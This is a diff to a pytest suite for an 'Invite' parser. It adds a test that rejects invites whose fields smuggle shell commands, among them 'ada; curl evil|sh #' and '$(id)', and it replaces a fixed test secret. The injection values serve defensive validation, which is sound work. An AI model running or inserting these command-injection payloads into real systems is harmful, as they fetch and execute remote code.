@@ -58,6 +58,22 @@ def test_something_else_is_told_from_an_invite(text):
         Invite.parse(text)
 
 
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("login", "ada; curl evil|sh #"),
+        ("classgan", "1'; curl evil|sh; '"),
+        ("host", "x y"),
+        ("port", 0),
+        ("secret", "$(id)"),
+    ],
+)
+def test_an_invite_from_a_stranger_holds_nothing_that_a_shell_would_run(invite, field, value):
+    strange = Invite.model_construct(**{**invite.model_dump(), field: value})
+    with pytest.raises(InviteError, match="damaged"):
+        Invite.parse(strange.line)
+
+
 def test_a_bomb_is_not_unpacked():
     import base64
     import zlib
@@ -69,11 +85,11 @@ def test_a_bomb_is_not_unpacked():
 
 def test_making_a_class_again_keeps_its_secrets(tmp_path):
     first = made(tmp_path, ("10.0.0.1",), "0.0.0.0", 4242, 5442, "")
-    pin = invite_for(first, tmp_path, "ada", "x").pin
+    pin = invite_for(first, tmp_path, "ada", new_secret()).pin
     again = made(tmp_path, ("10.0.0.1", "gan.example.edu"), "0.0.0.0", 4243, 5442, "")
     assert (again.instructor_secret, again.inner_secret) == (first.instructor_secret, first.inner_secret)
     assert again.port == 4243
-    assert invite_for(again, tmp_path, "ada", "x").pin == pin
+    assert invite_for(again, tmp_path, "ada", new_secret()).pin == pin
 
 
 def test_the_class_file_is_for_the_instructor_only_and_a_damaged_one_is_named(tmp_path):
